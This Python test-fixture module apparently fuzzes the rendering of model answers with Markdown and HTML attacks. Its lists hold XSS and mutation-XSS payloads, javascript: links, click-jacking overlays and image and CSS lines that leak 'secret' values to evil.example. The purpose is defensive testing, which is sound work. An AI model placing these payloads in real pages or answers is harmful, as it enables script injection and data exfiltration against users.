"""Answers of a model that tries to be more than text, and pieces out of which more of them are made."""

from hypothesis import strategies as st

FORM = "<form action='/logout/everywhere' method='post'><button>bait</button></form>"
OVERLAY = "<div style='position:fixed;inset:0;z-index:9999;background:red'>bait</div>"

BETWEEN_PARSERS = [
    # Each of them reads differently in two parsers of Markdown.
    f"$$\n```\n$$\n{FORM}\n```\n",
    f"$$ a\n\n```html\n{OVERLAY}\n$$\n```",
    f"```html\n```~\n{FORM}\n```",
    f"~~~html\n~~~`\n{OVERLAY}\n~~~",
    f'```mermaid\ngraph TD\nA["{FORM}"]\n```',
    f"````\n```mermaid\ngraph TD\nA[{FORM}]\n```\n````",
    f"```a`b\n{FORM}\n```",
    f"- ```\n{FORM}\n  ```",
    f"> ```\n{FORM}\n> ```",
    f"    ```\n{OVERLAY}\n    ```",
    f"```\n{FORM}",
    f"\t```\n{FORM}\n\t```",
    f"```\N{LINE SEPARATOR}\n{FORM}\n```",
    f"`` ` {FORM} ` ``{FORM}",
    f"\\`{FORM}`",
    f"%%%LATEX_BLOCK_0%%% $$x$$ \\({FORM}\\)",
    f"\\[ \\text{{{FORM}}} \\]",
    f"$$\\text{{{OVERLAY}}}$$",
    f"|a|\n|-|\n|{FORM}|\n|`|`{OVERLAY}|",
    f"[a]: <{FORM}>\n\n[a] [b](<{FORM}>) ![c](<{OVERLAY}>)",
    f"[a](<b>{FORM}) [a](<{OVERLAY}",
    f"[^1]: {FORM}\n\n[^1]",
    f"<!-- -->{FORM}<!-- --!>{OVERLAY}",
    f"<![CDATA[{FORM}]]> <?{FORM}?> <!X {FORM}>",
    f"&lt;{FORM[1:]} &#60;form&#62; &amp;lt;form&amp;gt; &#x3c;img src=x&#x3e;",
    f"<https://a.example/{FORM}> <javascript:alert(1)> <a@b.example{FORM}>",
    f"</div></span></div>{FORM}",
    f"\ufeff{FORM}\ufeff\n<\ufeffform>",
    f"<\nform action=/logout>\n{OVERLAY}",
    f"{'> ' * 70}{FORM}",
    f"{'- ' * 70}{FORM}",
    f"{'[' * 200}{FORM}{']()' * 200}",
    "\N{REVERSED QUESTION MARK}" + "".join(map(chr, range(0x2E2A, 0x2E50))) + FORM,
]

MUTATION = [
    "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='pwned'\">",
    "<svg></p><style><g title=\"</style><img src=x onerror=document.title='pwned'>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='pwned'>\">",
    "<template><img src=x onerror=document.title='pwned'></template>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id=\"</style><img onerror=document.title='pwned' src>\">",
    "<math><annotation-xml encoding='text/html'><style>"
    "<img src onerror=document.title='pwned'></style></annotation-xml></math>",
    "<title><img src=x onerror=document.title='pwned'></title>"
    "<textarea><script>document.title='pwned'</script></textarea>",
    "<xmp><img src=x onerror=document.title='pwned'></xmp><plaintext>",
    "<select><option><style></option></select><img src=x onerror=document.title='pwned'></style>",
]

RUNNING = [
    "<script>document.title = 'pwned'</script>",
    "<img src=x onerror=\"document.title = 'pwned'\">",
    "<img src=x onerror=document.title='pwned'//",
    "<svg onload=\"document.title = 'pwned'\"></svg>",
    "<svg><script>document.title = 'pwned'</script></svg>",
    "<svg><animate onbegin=\"document.title = 'pwned'\" attributeName=x dur=1s></svg>",
    "<iframe srcdoc=\"<script>parent.document.title = 'pwned'</script>\"></iframe>",
    "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
    "<object data=\"javascript:document.title='pwned'\"></object>",
    "<embed src=\"data:text/html,<script>parent.document.title='pwned'</script>\">",
    "<details open ontoggle=\"document.title = 'pwned'\">x</details>",
    "<body onload=\"document.title = 'pwned'\">",
    "<input autofocus onfocus=\"document.title = 'pwned'\">",
    "<dialog open>bait</dialog><button popovertarget=box>bait</button><div popover id=x>bait</div>",
    '<form action="http://evil.example/"><button id=bait>bait</button></form>',
    "<a href=\"javascript:document.title='pwned'\">bait</a>",
    "[bait](javascript:document.title='pwned')",
    "[bait](JaVaScRiPt&#58;document.title='pwned')",
    "[bait](java\tscript:document.title='pwned') [bait](vbscript:x) [bait](//evil.example/) [bait](/logout)",
    "[bait](data:text/html,<script>opener.document.title='pwned'</script>)",
    "[bait]: javascript:document.title='pwned'\n\n[bait]",
    "<a href='https://evil.example' style='position:fixed;inset:0' class='fixed inset-0'>bait</a>",
    f"[{'bait ' * 2000}](https://evil.example/)",
    f"[bait](https://evil.example/{'x' * 5000})",
    "## [![](x)](https://evil.example/) []( https://evil.example/)",
    "<button class='copy_code_button'>bait</button><div class='actions'><button class='edit' value='1'>bait",
    "<div id=box data-testid=x name=getElementById aria-hidden=true contenteditable autofocus>bait</div>",
    "x" * 5000 + "\N{COMBINING ENCLOSING CIRCLE BACKSLASH}" * 500 + "\N{RIGHT-TO-LEFT OVERRIDE}bait",
]

CALLING_OUT = [
    "![leak](http://evil.example/?secret=1)",
    '<img src="http://evil.example/?secret=2">',
    '<img srcset="http://evil.example/?secret=3 2x" src=x>',
    '<video src="http://evil.example/4" poster="http://evil.example/5" autoplay></video>',
    '<link rel=stylesheet href="http://evil.example/6">',
    "<style>@import url(http://evil.example/7); body { background: url(http://evil.example/8) }</style>",
    '<div style="background: url(http://evil.example/9)">x</div>',
    '<meta http-equiv=refresh content="0;url=http://evil.example/10">',
    '<base href="http://evil.example/">',
    "![leak][x]\n\n[x]: http://evil.example/11 'title'",
    "[![leak](http://evil.example/12)](http://evil.example/)",
    "<table background='http://evil.example/13'><td background='http://evil.example/14'>x</table>",
    "```html\n<img src=x onerror=document.title='pwned'>\n```",
]

FORMULAS = [
    "$$\\href{javascript:document.title='pwned'}{bait}$$",
    "$$\\includegraphics{http://evil.example/11}$$",
    "\\[ \\style{position:fixed;inset:0}{bait} \\class{actions}{x} \\cssId{box}{y} \\color{red}z \\]",
    "\\( \\rule{1000em}{1000em} \\hspace{-100em} \\hspace{1e9em} \\kern999em x \\Huge y \\)",
    "\\( \\text{</mtext></math><img src=x onerror=document.title='pwned'>} \\)",
    "\\( " + "\\sqrt{" * 80 + "x" + "}" * 80 + " \\)",
    "\\( " + "{" * 900 + " \\)",
    "\\[ \\begin{array}{" + "c|" * 300 + "} a & b \\end{array} \\]",
]

ATTACKS = [*BETWEEN_PARSERS, *MUTATION, *RUNNING, *CALLING_OUT, *FORMULAS]

PIECES = [
    *(
        "<b>",
        "</b>",
        "<style>",
        "<!--",
        "-->",
        "<?x",
        "<div\n",
        "<https://a.example>",
        FORM,
        OVERLAY,
        "<svg",
        "</",
    ),
    *(
        "`",
        "``",
        "```",
        "~~~",
        "```html\n",
        "```mermaid\n",
        "> ",
        "- ",
        "1. ",
        "\\",
        "|",
        "---",
        "# ",
        "*",
        "**",
    ),
    *(
        "_",
        "[a](",
        ")",
        "](<",
        ">",
        "![",
        "[a]",
        "[a]: ",
        "http://a.example/",
        "&lt;",
        "&#60;",
        "<a@b.example>",
    ),
    *("$$", "\\(", "\\)", "\\[", "\\]", "\\text{", "\\frac", "{", "}", "x^2", "&", "%%%LATEX_BLOCK_0%%%"),
    *("a", " ", "    ", "\t", "\r\n", "\N{LINE SEPARATOR}", "\xa0", "\ufeff", "\ud800", "\0"),
    *("\n", "\n", "\n", "\n\n", "\n\n", " ", " ", "|a|b|\n|-|-|\n"),
]
answers = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)
"""Pieces that matter to Markdown, put together at random."""
